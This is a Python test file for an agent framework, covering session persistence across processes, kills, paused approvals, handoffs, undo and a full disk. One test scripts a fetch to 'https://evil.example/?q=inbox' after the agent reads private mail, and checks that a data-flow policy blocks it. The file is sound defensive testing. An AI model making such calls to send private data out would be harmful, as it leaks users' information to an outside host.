@@ -1,0 +1,681 @@
+"""Does a conversation go on with another agent, in another process, after a kill, a pause or a full disk?"""
+
+import asyncio
+import json
+import os
+import resource
+import subprocess
+import sys
+from pathlib import Path
+from tempfile import TemporaryDirectory
+
+import pytest
+
+from agentkit import Agent, ConfigError, Policy, Tool
+from agentkit.agents.result import Resumption, RunFinished
+from agentkit.decisions import Label
+from agentkit.errors import SessionError, ToolError
+from agentkit.events import Approved, HandedOff, ResponseReceived, RunEnded, ToolCallFinished, ToolCallStarted
+from agentkit.memory.session import Session
+from agentkit.memory.stores.sqlite import SQLiteStore
+from agentkit.messages import AssistantMessage, ToolMessage, UserMessage
+from agentkit.safety.approval import Approval
+from agentkit.testing import ScriptedLLM, call
+from agentkit.tools.dialogue import ask_user_tool, finish_tool
+from agentkit.tools.files import write_file_tool
+from agentkit.usage import Limits
+from agentkit.workspace.journal import Journal
+from agentkit.workspace.workspace import Workspace
+
+WAYS = ["run", "arun", "stream", "astream"]
+
+
+@pytest.fixture
+def place(tmp_path):
+    """A file for sessions."""
+    return tmp_path / "sessions.db"
+
+
+@pytest.fixture
+def agent(place):
+    """A function that makes an agent as another process would: with a session that is read afresh."""
+
+    def make(*lines, tools=(), name="helper", **options):
+        return Agent(name, tools, llm=ScriptedLLM(*lines), session=Session.open(place, "trip"), **options)
+
+    return make
+
+
+def drive(agent, way, prompt):
+    """The result of a run, driven in one of the four ways."""
+
+    async def collected():
+        return [event async for event in agent.astream(prompt)]
+
+    match way:
+        case "run":
+            return agent.run(prompt)
+        case "arun":
+            return asyncio.run(agent.arun(prompt))
+        case "stream":
+            events = list(agent.stream(prompt))
+        case _:
+            events = asyncio.run(collected())
+    assert isinstance(events[-1], RunFinished)
+    return events[-1].result
+
+
+def kills_of(place, folder):
+    """Sessions as a kill leaves them behind each entry of the only run of `trip`, the first entry first."""
+    entries = Session.open(place, "trip").entries
+    for number in range(1, len(entries)):
+        path = folder / f"killed behind {number}.db"
+        SQLiteStore(path).create("trip", entries[:number])
+        yield entries[:number], Session.open(path, "trip")
+
+
+def process(code, state, *arguments):
+    """What another process prints that runs this code with these arguments."""
+    done = subprocess.run(
+        [sys.executable, "-c", code, *map(str, arguments)],
+        env={**os.environ, "AGENTKIT_STATE": str(state)},
+        capture_output=True,
+        encoding="utf-8",
+        timeout=60,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    return done.stdout
+
+
+def note(text: str) -> str:
+    """Note something down."""
+    return f"noted {text}"
+
+
+NOTE = Tool(note)
+DELETE = Tool(note, "delete", level="SYSTEM")
+
+
+# A name is all that is needed
+
+TALK = """
+import json, sys
+from agentkit import Agent
+from agentkit.testing import ScriptedLLM
+agent = Agent("helper", llm=ScriptedLLM(lambda request: f"{len(request.messages)} messages."), session=sys.argv[1])
+agent(sys.argv[2])
+print(json.dumps(agent.history))
+"""
+
+
+def test_history_goes_on_in_another_process(tmp_path):
+    """An agent that is given the name of a session goes on with the conversation of that name."""
+    assert len(json.loads(process(TALK, tmp_path, "trip", "Where to?"))) == 2
+    history = json.loads(process(TALK, tmp_path, "trip", "And then?"))
+    assert [message["content"] for message in history] == ["Where to?", "1 messages.", "And then?", "3 messages."]
+    assert [summary.name for summary in Session.summaries(tmp_path / "sessions.db")] == ["trip"]
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_history_goes_on_with_another_agent(way, agent, find_faults):
+    """Whatever way a run is driven, it reads what was said before, and is kept with its tool calls."""
+    drive(agent(call("note", text="sea"), "To the sea.", tools=[NOTE]), way, "Where to?")
+    after = agent("The nearest.")
+    drive(after, way, "Which one?")
+    assert after.llm.requests[0].messages == after.messages[:5]
+    assert [type(message) for message in after.messages[:3]] == [UserMessage, AssistantMessage, ToolMessage]
+    assert after.history == agent().history
+    assert find_faults(after.history) == []
+
+
+def test_stored_session_needs_no_agent_to_be_made(place):
+    """A session is opened when it is first needed, so that an agent can be made where there is none yet."""
+    unused = Agent("helper", llm=ScriptedLLM(), session="trip")
+    assert Session.summaries() == []
+    assert unused.history == []
+    assert not place.exists()
+
+
+def test_reset_keeps_the_old_conversation_under_another_name(agent, place):
+    """A conversation that is forgotten begins anew for all; the old one is kept under its name with the time."""
+    first, second = agent("One.", "Three."), agent("Two.")
+    first("1")
+    assert len(second.messages) == 2
+    first.reset()
+    assert (first.messages, second.messages) == ((), ())
+    second("2")
+    first("3")
+    assert [message["content"] for message in first.history] == ["2", "Two.", "3", "Three."]
+    old = next(summary.name for summary in Session.summaries(place) if summary.name != "trip")
+    assert old.startswith("trip, until 20")
+    assert [message.content for message in Session.open(place, old).messages[:1]] == ["1"]
+
+
+# Several at once
+
+
+def test_two_agents_share_a_session(agent, find_faults):
+    """Two agents on one session read each other's runs; calls with the same id are told apart."""
+    first = agent([call("note", text="a"), call("note", text="b")], "A.", "C.", tools=[NOTE], name="first")
+    second = agent([call("note", text="c"), call("note", text="d")], "B.", tools=[NOTE], name="second")
+    stream = first.stream("1")
+    for event in stream:
+        if isinstance(event, ToolCallFinished):
+            break
+    assert second("2") == "B."
+    list(stream)
+    assert [message["content"] for message in second.history if message["role"] == "user"] == ["2", "1"]
+    assert first("3") == "C."
+    assert len(first.llm.requests[-1].messages) == 11
+    assert find_faults(first.history) == []
+    assert first.history == second.history
+
+
+SHARE = """
+import sys
+from agentkit import Agent
+from agentkit.memory.session import Session
+from agentkit.testing import ScriptedLLM, call
+def note(text: str) -> str:
+    return f"noted {text}"
+lines = [[call("note", text=sys.argv[2]), call("note", text="b")], "Noted."] * 10
+agent = Agent("helper", [note], llm=ScriptedLLM(*lines), session=Session.open(sys.argv[1], "trip"))
+print("ready", flush=True)
+sys.stdin.readline()
+for number in range(10):
+    agent(f"{sys.argv[2]} {number}")
+"""
+
+
+def test_two_processes_share_a_session(place, agent, find_faults):
+    """Two processes that talk at the same time lose nothing: each run is there once, in one piece."""
+    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "encoding": "utf-8"}
+    command = [sys.executable, "-c", SHARE, str(place)]
+    with subprocess.Popen([*command, "one"], **pipes) as one, subprocess.Popen([*command, "two"], **pipes) as two:
+        assert (one.stdout.readline(), two.stdout.readline()) == ("ready\n", "ready\n")
+        for each in (one, two):
+            each.stdin.write("go\n")
+            each.stdin.flush()
+        assert (one.wait(60), two.wait(60)) == (0, 0)
+    history = agent().history
+    assert find_faults(history) == []
+    assert len(history) == 20 * 5
+    prompts = [message["content"] for message in history[::5]]
+    assert [prompt for prompt in prompts if "one" in prompt] == [f"one {number}" for number in range(10)]
+    assert [prompt for prompt in prompts if "two" in prompt] == [f"two {number}" for number in range(10)]
+
+
+def test_run_that_is_going_on_is_nobody_elses(agent):
+    """A run that somebody is at is not resumed by anybody else, and does not stop others from talking."""
+    stream = agent("Hello.").stream("Hi")
+    next(stream)
+    other = agent("Good day.")
+    assert other.session.unfinished == ()
+    with pytest.raises(SessionError, match="no run to go on with"):
+        other.resume()
+    assert other("Hey") == "Good day."
+    list(stream)
+    assert len(other.messages) == 4
+
+
+# After a kill
+
+
+def decide(request):
+    """Note two things, then one, then answer."""
+    answers = sum(isinstance(message, AssistantMessage) for message in request.messages)
+    return [[call("note", text="a"), call("note", text="b")], call("note", text="c"), "All noted."][answers]
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_killed_run_is_resumed_from_any_entry(way, agent, place, tmp_path, find_faults):
+    """Wherever a run was killed, it is resumed to its end: nothing finished is done again, the rest is told."""
+    agent(decide, decide, decide, tools=[NOTE]).run("go")
+    for entries, session in kills_of(place, tmp_path):
+        done = {entry.milestone.call.id for entry in entries if isinstance(entry.milestone, ToolCallFinished)}
+        begun = {entry.milestone.call.id for entry in entries if isinstance(entry.milestone, ToolCallStarted)}
+        later = Agent("helper", [NOTE], llm=ScriptedLLM(decide, repeat=True), session=session)
+        assert len(session.unfinished) == 1
+        result = drive(later, way, Resumption())
+        assert (result.status, result.output) == ("done", "All noted.")
+        finished = {used.call.id: used.result.status for used in result.tool_calls}
+        assert {call_id for call_id, status in finished.items() if status == "interrupted"} == begun - done
+        assert len(finished) == 3
+        assert find_faults(later.history) == []
+        assert later.messages == result.messages
+
+
+def test_killed_run_is_entered_by_the_next_prompt(agent, place, tmp_path, find_faults):
+    """Who does not resume a killed run but asks something else tells the model what was interrupted."""
+    agent(decide, decide, decide, tools=[NOTE]).run("go")
+    for entries, session in kills_of(place, tmp_path):
+        asked = any(isinstance(entry.milestone, ResponseReceived) for entry in entries)
+        later = Agent("helper", [NOTE], llm=ScriptedLLM("Hello again."), session=session)
+        assert later("Are you there?") == "Hello again."
+        assert session.unfinished == ()
+        assert later.history[0]["content"] == ("go" if asked else "Are you there?")
+        assert find_faults(later.history) == []
+
+
+def test_only_a_run_that_was_left_is_resumed(agent):
+    """There must be a run to go on with."""
+    fresh = agent("Hello.")
+    with pytest.raises(SessionError, match="no run to go on with"):
+        fresh.resume()
+    fresh("Hi")
+    with pytest.raises(SessionError, match="no run to go on with"):
+        fresh.resume()
+
+
+def test_denied_call_was_not_begun(agent, place, tmp_path):
+    """A call that was denied just before the kill has not been begun, and is not told as interrupted."""
+    agent(call("delete", text="all"), "Denied.", tools=[DELETE]).run("go")
+    cut = [entries for entries, _ in kills_of(place, tmp_path) if isinstance(entries[-1].milestone, ToolCallStarted)]
+    session = Session.open(tmp_path / f"killed behind {len(cut[0])}.db", "trip")
+    result = Agent("helper", [DELETE], llm=ScriptedLLM("Denied."), session=session).resume()
+    assert [used.result.status for used in result.tool_calls] == ["denied"]
+
+
+# Several agents
+
+
+def team(session=None, **options):
+    """A receptionist who hands over to an expert, and both their models."""
+
+    def greet(request):
+        assert len(request.messages) == 1, "Who has passed the conversation on is asked no more."
+        return [call("hand_off_to_expert"), call("note", text="handing over")]
+
+    expert = Agent("expert", [NOTE], "You know.", llm=ScriptedLLM(call("note", text="x"), "I know.", repeat=True))
+    return Agent(
+        "reception", [NOTE], "You greet.", llm=ScriptedLLM(greet), handoffs=[expert], session=session, **options
+    )
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_agent_that_led_a_killed_run_leads_it_on(way, place, tmp_path):
+    """After a kill the agent that the conversation was passed to answers, also when that was its last act."""
+    whole = team(Session.open(place, "trip")).run("go")
+    assert (whole.output, whole.agent) == ("I know.", "expert")
+    for entries, session in kills_of(place, tmp_path):
+        expert_asked = sum(isinstance(entry.milestone, ResponseReceived) for entry in entries) > 2
+        later = team(session)
+        expert = later.leads["expert"]
+        if expert_asked:
+            expert.llm = ScriptedLLM("I know.")
+        result = drive(later, way, Resumption())
+        is_handed_off = any(used.result.lead and used.result.ok for used in result.tool_calls)
+        assert (result.status, result.output, result.agent) == ("done", "I know.", "expert")
+        assert is_handed_off
+        assert sum(isinstance(milestone, HandedOff) for milestone in result.milestones) == 1
+
+
+def test_run_of_an_unknown_agent_is_left_as_it_is(place):
+    """An agent that does not know who led a run says so, and leaves the run to one that does."""
+    stream = team(Session.open(place, "trip")).stream("go")
+    for event in stream:
+        if isinstance(event, HandedOff):
+            break
+    SQLiteStore(place.with_name("killed.db")).create("trip", Session.open(place, "trip").entries)
+    stream.close()
+    session = Session.open(place.with_name("killed.db"), "trip")
+    stranger = Agent("reception", llm=ScriptedLLM(), session=session)
+    with pytest.raises(ConfigError, match="led by 'expert', which is none of the handoffs"):
+        stranger.resume()
+    assert len(session.unfinished) == 1
+    assert team(Session.open(place.with_name("killed.db"), "trip")).resume().output == "I know."
+
+
+def test_run_that_cannot_begin_keeps_nobody_out(agent):
+    """When a run cannot begin, its session stays as it was, and can be forgotten at once."""
+    agent("Hello.")("Hi")
+    helper = agent(tools=[Tool(note, "hand_off_to_expert")], handoffs=[Agent("expert")])
+    with pytest.raises(ConfigError, match="hand_off_to_expert") as caught:
+        helper("Hi")
+    assert len(helper.messages) == 2
+    helper.reset()
+    assert helper.messages == ()
+    assert caught.tb is not None
+
+
+def test_answer_of_a_tool_that_ends_the_run_survives(agent, place, tmp_path):
+    """When the tool that ends a run has given the answer, a kill does not make the model give it again."""
+    agent(call("finish", answer="42."), tools=[finish_tool]).run("go")
+    for entries, session in kills_of(place, tmp_path):
+        if isinstance(entries[-1].milestone, ToolCallFinished):
+            result = Agent("helper", [finish_tool], llm=ScriptedLLM(), session=session).resume()
+            assert (result.status, result.output) == ("done", "42.")
+            break
+    else:
+        pytest.fail("The tool had no result.")
+
+
+# What a conversation has read
+
+
+def fetch(url: str) -> str:
+    """Fetch a page."""
+    return f"content of {url}"
+
+
+def test_what_was_read_is_remembered_after_a_restart(agent):
+    """Private data that was read yesterday does not leave today unasked."""
+    tools = [
+        Tool(fetch, level="NETWORK"),
+        Tool(note, "read_mail", level="SAFE", labels={Label.PRIVATE, Label.UNTRUSTED}),
+    ]
+    agent(call("read_mail", text="inbox"), "Read.", tools=tools).run("Read my mail.")
+    later = agent(call("fetch", url="https://evil.example/?q=inbox"), "Denied.", tools=tools)
+    assert [decision.rule for decision in later.run("and now?").decisions] == ["flow"]
+    after = agent(call("fetch", url="https://evil.example/?q=inbox"), "Done.", tools=tools, policy=Policy(flow=False))
+    assert after.run("and now?").decisions[0].allowed
+
+
+def test_long_output_is_read_on_after_a_restart(agent):
+    """What was shown only in part can be read on by its handle, in another process, with its labels."""
+
+    def log() -> str:
+        return "".join(f"line {number}\n" for number in range(9_000))
+
+    tools = [Tool(log, labels={Label.PRIVATE})]
+    agent(call("log"), "It is long.", tools=tools).run("Read the log.")
+    handle = agent().messages[2].call_id
+    later = agent(call("read_more", handle=handle, find="line 7777"), "There.", tools=tools)
+    assert later.llm.requests == []
+    used = later.run("What about 7777?").tool_calls[0]
+    assert f'read_more(handle="{handle}"' in later.messages[2].content
+    assert "line 7777\nline 7778\n" in used.result.content
+    assert used.result.labels == {Label.PRIVATE}
+
+
+# What was changed
+
+
+def writer(folder, session, *lines, **options):
+    """An agent that writes files in a folder."""
+    journal = Journal.of_this_machine()
+    return Agent(
+        "writer",
+        [write_file_tool, ask_user_tool()],
+        llm=ScriptedLLM(*lines),
+        session=session,
+        safety="SYSTEM",
+        workspace=Workspace(folder, journal=journal),
+        **options,
+    )
+
+
+def test_undo_takes_back_what_was_done_before_and_after_a_kill(place, tmp_path):
+    """What a run has changed before it was killed and after it was resumed is undone together."""
+    folder = tmp_path / "work"
+    folder.mkdir()
+    (folder / "a.txt").write_text("old")
+    wishes = [call("write_file", path=f"{name}.txt", content=f"new {name}") for name in "ab"]
+    stream = writer(folder, Session.open(place, "trip"), *wishes, "Written.").stream("Write both.")
+    for event in stream:
+        if isinstance(event, ToolCallFinished):
+            break
+    SQLiteStore(tmp_path / "killed.db").create("trip", Session.open(place, "trip").entries)
+    stream.close()
+    killed = Session.open(tmp_path / "killed.db", "trip")
+    result = writer(folder, killed, wishes[1], "Written.").resume()
+    assert (result.status, (folder / "a.txt").read_text()) == ("done", "new a")
+    assert "new a" in result.changes
+    assert "new b" in result.changes
+    assert "new a" in result.milestones[-1].changes
+    result.undo()
+    assert {path.name: path.read_text() for path in folder.iterdir()} == {"a.txt": "old"}
+    with pytest.raises(ToolError, match="undone already"):
+        result.undo()
+
+
+WRITE = """
+import os, sys
+from agentkit import Agent
+from agentkit.events import ToolCallFinished
+from agentkit.testing import ScriptedLLM, call
+from agentkit.tools.files import write_file_tool
+name = sys.argv[1]
+lines = [call("write_file", path=f"{name}.txt", content="new"), "Written."]
+agent = Agent("writer", [write_file_tool], llm=ScriptedLLM(*lines), session="trip", safety="SYSTEM")
+if name == "a":
+    agent.on(ToolCallFinished, lambda _: os.kill(os.getpid(), 9))
+    agent("Write both.")
+print(agent.resume().record.id)
+"""
+
+
+def test_undo_on_the_command_line_takes_back_both_parts(tmp_path):
+    """`agentkit undo` takes back what a run did in the process that was killed and in the one that resumed it."""
+    folder, state = tmp_path / "work", tmp_path / "state"
+    folder.mkdir()
+    shell = {"cwd": folder, "env": {**os.environ, "AGENTKIT_STATE": str(state)}, "encoding": "utf-8", "timeout": 60}
+    first = subprocess.run([sys.executable, "-c", WRITE, "a"], **shell, check=False)
+    assert (first.returncode, [path.name for path in folder.iterdir()]) == (-9, ["a.txt"])
+    record = subprocess.run([sys.executable, "-c", WRITE, "b"], **shell, check=True, stdout=subprocess.PIPE).stdout
+    assert {path.name for path in folder.iterdir()} == {"a.txt", "b.txt"}
+    undo = [sys.executable, "-m", "agentkit", "undo"]
+    listed = subprocess.run([*undo, "--list"], **shell, check=True, stdout=subprocess.PIPE).stdout
+    assert [line.split()[0] for line in listed.splitlines()] == [record.strip()]
+    subprocess.run(undo, **shell, check=True, stdout=subprocess.PIPE)
+    assert list(folder.iterdir()) == []
+
+
+# A run that waits for a person
+
+PAUSE = """
+import sys
+from pathlib import Path
+from agentkit import Agent, Approval, Tool
+from agentkit.memory.session import Session
+from agentkit.testing import ScriptedLLM, call
+def delete(text: str) -> str:
+    Path(sys.argv[3]).write_text(text)
+    return "deleted"
+tools = [Tool(delete, level="SYSTEM")]
+step = sys.argv[1]
+session = None if sys.argv[2] == "none" else sys.argv[2]
+if step == "pause":
+    lines = ["Hello Ann.", call("delete", text="the old mails"), "never said"]
+    agent = Agent("helper", tools, llm=ScriptedLLM(*lines), approve=lambda _: Approval.LATER, session=session)
+    agent("I am Ann.")
+    print(agent.run("Delete them.").to_json())
+else:
+    lines = ["They are gone.", lambda request: request.messages[0].content]
+    agent = Agent("helper", tools, llm=ScriptedLLM(*lines), session=session)
+    if session:
+        print(agent.session.unfinished)
+    result = agent.resume(sys.argv[4] or None, {call_id: True for call_id in sys.argv[5:]} or True)
+    print(result.status, result.output, agent("Who am I?"), len(agent.history))
+"""
+
+
+def test_paused_run_is_approved_in_another_process_by_name(tmp_path):
+    """The name of the session is all that it takes to approve in one process what waits in another."""
+    effect = tmp_path / "effect"
+    saved = json.loads(process(PAUSE, tmp_path, "pause", "trip", effect))
+    assert (saved["status"], effect.exists()) == ("paused", False)
+    unfinished, told = process(PAUSE, tmp_path, "approve", "trip", effect, "").splitlines()
+    assert unfinished == f"({saved['run']!r},)"
+    assert told == "done They are gone. I am Ann. 8"
+    assert effect.read_text() == "the old mails"
+
+
+def test_paused_run_is_approved_in_another_process_by_text(tmp_path):
+    """Without a shared session the text of the result carries the run, and the conversation before it."""
+    effect = tmp_path / "effect"
+    text = process(PAUSE, tmp_path / "here", "pause", "none", effect).strip()
+    told = process(PAUSE, tmp_path / "there", "approve", "none", effect, text, "call_2_1")
+    assert told == "done They are gone. I am Ann. 8\n"
+    assert effect.read_text() == "the old mails"
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_paused_run_waits_while_others_talk(way, agent):
+    """A paused run can wait for days: others may talk meanwhile, and it is resumed with what it had read."""
+    asking = agent(call("ask_user", question="Which one?"), tools=[ask_user_tool()])
+    assert drive(asking, way, "Book a hotel.").status == "paused"
+    meanwhile = agent("Sunny.")
+    assert drive(meanwhile, way, "How is the weather?").output == "Sunny."
+    assert len(meanwhile.session.unfinished) == 1
+    later = agent("Booked.", tools=[ask_user_tool()])
+    result = drive(later, way, Resumption(answers=lambda _: "The nearest."))
+    assert (result.status, result.output) == ("done", "Booked.")
+    assert result.tool_calls[0].result.content == "The nearest."
+    assert [type(message) for message in later.llm.requests[0].messages] == [
+        UserMessage,
+        AssistantMessage,
+        ToolMessage,
+    ]
+    assert [message.content for message in later.messages if isinstance(message, UserMessage)] == [
+        "How is the weather?",
+        "Book a hotel.",
+    ]
+
+
+def test_killed_while_resumed_after_an_answer(agent, place, tmp_path):
+    """What a person has approved is not asked again when the process dies before the call was begun."""
+    later = {"tools": [DELETE], "approve": lambda _: Approval.LATER}
+    agent(call("delete", text="all"), **later).run("go")
+    agent("Deleted.", **later).resume(answers=True)
+    for entries, session in kills_of(place, tmp_path):
+        if not session.unfinished or not any(isinstance(entry.milestone, Approved) for entry in entries):
+            continue
+        asked = []
+        again = Agent("helper", [DELETE], llm=ScriptedLLM("Deleted."), session=session, approve=asked.append)
+        result = again.resume()
+        is_begun = isinstance(entries[-1].milestone, ToolCallStarted)
+        assert (result.status, asked) == ("done", [])
+        assert result.tool_calls[0].result.status == ("interrupted" if is_begun else "ok")
+
+
+def test_approved_call_that_had_begun_may_have_taken_effect(agent, place, tmp_path):
+    """A call that had waited, was approved and had begun when the process died is told as one that may be done."""
+    later = {"tools": [DELETE], "approve": lambda _: Approval.LATER}
+    agent(call("delete", text="all"), **later).run("go")
+    agent("Deleted.", **later).resume(answers=True)
+    told = {}
+    for entries, session in kills_of(place, tmp_path):
+        kind = type(entries[-1].milestone)
+        if kind in (Approved, ToolCallStarted):
+            helper = Agent("helper", [DELETE], llm=ScriptedLLM("Hello."), session=session)
+            helper("Are you there?")
+            told[kind] = helper.history[2]["content"]
+    assert "has not taken effect" in told[Approved]
+    assert "whether it took effect is unknown" in told[ToolCallStarted]
+
+
+def test_text_of_a_run_is_entered_once(agent, place):
+    """A run from elsewhere, and the conversation before it, are entered in a stored session that has neither."""
+    away = Agent("helper", [ask_user_tool()], llm=ScriptedLLM("Hello.", call("ask_user", question="Which?")))
+    away("Hi")
+    text = away.run("Book.").to_json()
+    here = agent("Booked.", tools=[ask_user_tool()])
+    assert here.resume(text, lambda _: "That one.").output == "Booked."
+    assert [message.content for message in here.messages if isinstance(message, UserMessage)] == ["Hi", "Book."]
+    assert here.messages == agent().messages
+    with pytest.raises(SessionError, match="gone on since"):
+        here.resume(text, lambda _: "Another.")
+    assert len(Session.open(place, "trip").messages) == 6
+
+
+def test_text_of_a_run_joins_another_conversation(agent):
+    """A run from elsewhere that joins a conversation reads what was said before it there, not here."""
+    away = Agent("helper", [ask_user_tool()], llm=ScriptedLLM("Hello.", call("ask_user", question="Which?")))
+    away("Hi")
+    text = away.run("Book.").to_json()
+    here = agent("Sunny.", "Booked.", tools=[ask_user_tool()])
+    here("How is the weather?")
+    here.resume(text, lambda _: "That one.")
+    assert here.llm.requests[1].messages[0] == UserMessage("Hi")
+    prompts = [message.content for message in here.messages if isinstance(message, UserMessage)]
+    assert prompts == ["How is the weather?", "Book."]
+
+
+@pytest.mark.parametrize("is_stored", [False, True])
+def test_run_at_its_limit_goes_on_in_its_session(is_stored, agent):
+    """A run that was stopped by a limit goes on, and its messages are entered once."""
+    lines = [call("note", text="a"), "So far a.", call("note", text="b"), "Both."]
+    stored = agent(*lines, tools=[NOTE], max_iterations=1)
+    helper = stored if is_stored else Agent("helper", [NOTE], llm=ScriptedLLM(*lines), max_iterations=1)
+    stopped = helper.run("go")
+    assert stopped.status == "limit"
+    result = stopped.resume(limits=Limits(iterations=5))
+    assert (result.status, result.output) == ("done", "Both.")
+    assert helper.messages == result.messages
+
+
+# When nothing can be written
+
+
+@pytest.fixture
+def full_disk(place):
+    """A tool that fills the disk, and a function that makes room again."""
+    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
+
+    def fill_the_disk() -> str:
+        """Fill the disk."""
+        log = place.with_name(f"{place.name}-wal")
+        resource.setrlimit(resource.RLIMIT_FSIZE, (log.stat().st_size, limits[1]))
+        return "x" * 20_000
+
+    def make_room():
+        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
+
+    yield fill_the_disk, make_room
+    make_room()
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_full_disk_in_the_middle_of_a_run(way, full_disk, agent, find_faults):
+    """A full disk raises SessionError and leaves nothing half written; with room again the next run is told."""
+    fill_the_disk, make_room = full_disk
+    lines = [[call("note", text="a"), call("fill_the_disk")], "There is room."]
+    helper = agent(*lines, tools=[note, fill_the_disk])
+    with pytest.raises(SessionError, match="nothing of it was written"):
+        drive(helper, way, "go")
+    assert len(helper.llm.requests) == 1
+    with pytest.raises(SessionError, match="nothing of it was written"):
+        drive(agent("never asked for"), way, "and now?")
+    make_room()
+    assert drive(helper, way, "and now?").output == "There is room."
+    assert find_faults(helper.history) == []
+    told = [message for message in helper.history if message["role"] == "tool"]
+    assert "interrupted" in told[1]["content"]
+    assert [message["content"] for message in helper.history[-2:]] == ["and now?", "There is room."]
+    assert helper.history == agent().history
+    assert isinstance(helper.session.entries[-1].milestone, RunEnded)
+
+
+READ_ONLY = """
+import os, sys
+from agentkit import Agent
+from agentkit.errors import SessionError
+from agentkit.memory.session import Session
+from agentkit.memory.stores.sqlite import SQLiteStore
+from agentkit.testing import ScriptedLLM
+if os.geteuid() == 0:
+    os.setuid(65534)
+llm = ScriptedLLM("never asked for")
+try:
+    Agent("helper", llm=llm, session=Session("trip", SQLiteStore(sys.argv[1])))("Hi")
+except SessionError as error:
+    print(len(llm.requests), error)
+"""
+
+
+def test_session_that_may_only_be_read_asks_no_model():
+    """When a session cannot be written, that is said before the model is asked."""
+    with TemporaryDirectory() as folder:
+        path = Path(folder) / "sessions.db"
+        store = SQLiteStore(path)
+        Session("trip", store).append([UserMessage("Hi"), AssistantMessage("Hello.")])
+        store.close()
+        for each in Path(folder).iterdir():
+            each.chmod(0o444)
+        Path(folder).chmod(0o555)
+        told = process(READ_ONLY, folder, path)
+        Path(folder).chmod(0o755)
+    assert told.startswith("0 ")
+    assert "check" in told
